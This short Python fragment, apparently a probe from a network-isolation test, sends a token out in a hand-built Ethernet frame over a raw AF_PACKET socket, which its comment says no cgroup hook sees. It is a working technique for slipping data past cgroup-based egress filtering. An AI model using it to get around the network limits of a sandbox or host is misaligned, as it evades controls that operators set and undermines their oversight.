# A whole Ethernet frame: no hook of a cgroup sees it.
def attempt():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as s:
        s.bind((p["interface"], 0x0800))
        address = bytes.fromhex(p["mac"].replace(":", ""))
        s.send(address + s.getsockname()[4] + b"\x08\x00" + ipv4_udp(TOKEN, p["here"], V4, PORT))
